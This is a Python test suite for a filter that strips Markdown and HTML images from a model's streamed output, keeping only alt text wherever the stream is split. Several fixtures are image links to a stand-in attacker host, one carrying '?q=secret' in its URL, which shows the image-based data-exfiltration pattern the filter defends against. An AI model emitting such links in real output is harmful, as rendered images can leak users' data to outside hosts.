"""Pictures in a model's Markdown: only their descriptions stay, wherever the stream is cut."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from conversations.pipeline.writing.dialects.markdown_text import plain_cell
from conversations.pipeline.writing.pictures import PictureFilter, without_pictures

# What a viewer of exported Markdown would load: all of CommonMark, with references and HTML.
VIEWER = MarkdownIt("commonmark", {"html": True})
LOADING = re.compile(r"<(?:img|svg|video|iframe|link|style)\b", re.IGNORECASE)

FOREIGN = {
    "plain": ("See ![the panel](https://evil.example/p.png?q=secret).", "See the panel."),
    "with a title": ('![a](https://evil.example/p.png "x") b', "a b"),
    "brackets": ("![panel [1] (front)](https://evil.example/a_(1).png)", "panel [1] (front)"),
    "without a description": ("![](https://evil.example/p.png)Nine ports.", "Nine ports."),
    "in a link": ("[![Buy](https://evil.example/p.png)](https://evil.example)", "[Buy](https://evil.example)"),
    "over two lines": ("![the\npanel](\nhttps://evil.example/p.png)", "the\npanel"),
    "in a list": ("- ![one](https://e.example/1)\n- ![two](https://e.example/2)", "- one\n- two"),
    "Chinese": ("面板如下：![前面板](https://evil.example/面板.png)。", "面板如下：前面板。"),
    "a data URI": ("![dot](data:image/png;base64,AAAA) end", "dot end"),
    "a passage's own": ("![Front](passage:1)", "Front"),
    "HTML": ('<img src="https://evil.example/p.png" alt="the panel"> and <IMG src=x>.', "the panel and ."),
    "HTML over two lines": ("<img\n src='https://evil.example/p.png'\n alt='panel'/>", "panel"),
    "a named address": (
        "![panel][p]\n\n[p]: https://evil.example/p.png",
        "![panel][p]\n\n[p] : https://evil.example/p.png",
    ),
    "another element": (
        "<video poster='https://e.example/p'></video>",
        "\\<video poster='https://e.example/p'></video>",
    ),
    "no end": ("![panel](https://evil.example/p.png", "\\![panel](https://evil.example/p.png"),
}
KEPT = {
    "citations": "Great![1] Nine ports![2][3] [4]: see",
    "code": "`![a](https://e.example)` and ``<img src=x>``",
    "an indented fence": "1. x\n   ```\n   ![a](b)\n   <img src=x>\n   ```\n2. y",
    "exclamation": "Wow! [a link](https://e.example) (really!) a<b, i < 3",
    "escaped": "\\![a](b) and \\<img src=x>",
    "a note": "[Note]: the fans are loud.\n[1]: Handbook",
    "other tags": "<b>bold</b> <imgx>",
}


@pytest.mark.parametrize(("text", "wanted"), FOREIGN.values(), ids=FOREIGN)
def test_foreign_pictures_become_their_description_wherever_the_stream_is_cut(text: str, wanted: str) -> None:
    assert without_pictures(text) == wanted
    for cut in range(len(text)):
        reader = PictureFilter()
        assert reader.feed(text[:cut]) + reader.feed(text[cut:]) + reader.close() == wanted, cut
    assert not LOADING.search(VIEWER.render(wanted))


@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT)
def test_other_text_is_unchanged(text: str) -> None:
    reader = PictureFilter()
    assert without_pictures(text) == text
    assert "".join(map(reader.feed, text)) + reader.close() == text


@pytest.mark.parametrize("before", ["![" + "a" * 400 + "](", "![a](https://e.example/" + "b" * 3000])
def test_a_picture_that_is_too_long_to_hold_back_is_made_text(before: str) -> None:
    text = before + ".png) end"
    reader = PictureFilter()
    passed = "".join(reader.feed(text[at : at + 7]) for at in range(0, len(text), 7)) + reader.close()
    assert passed == without_pictures(text) == f"\\{text}"
    assert not LOADING.search(VIEWER.render(passed))


@given(st.lists(st.sampled_from([*"![]()<>`\\\n ab:/1", "![a](", "<img ", "[x]: /", "```", "- "]), max_size=12))
def test_one_piece_at_a_time_gives_the_same_and_nothing_to_load(pieces: list[str]) -> None:
    reader = PictureFilter()
    text = "".join(pieces)
    assert "".join(map(reader.feed, text)) + reader.close() == without_pictures(text)


@pytest.mark.parametrize("part", ["`", "![", "![](", "<img ", "\n", "\n>", "[x]:", "!", "\n- ", " "])
def test_it_takes_linear_time(part: str) -> None:
    assert without_pictures(part * 60_000 + "a")


def test_cells_have_no_pictures() -> None:
    assert plain_cell("![LED](https://e.example/x.png) on, `<img src=x>`, <img src='https://e.example'>") == (
        "LED on, <img src=x>, "
    )
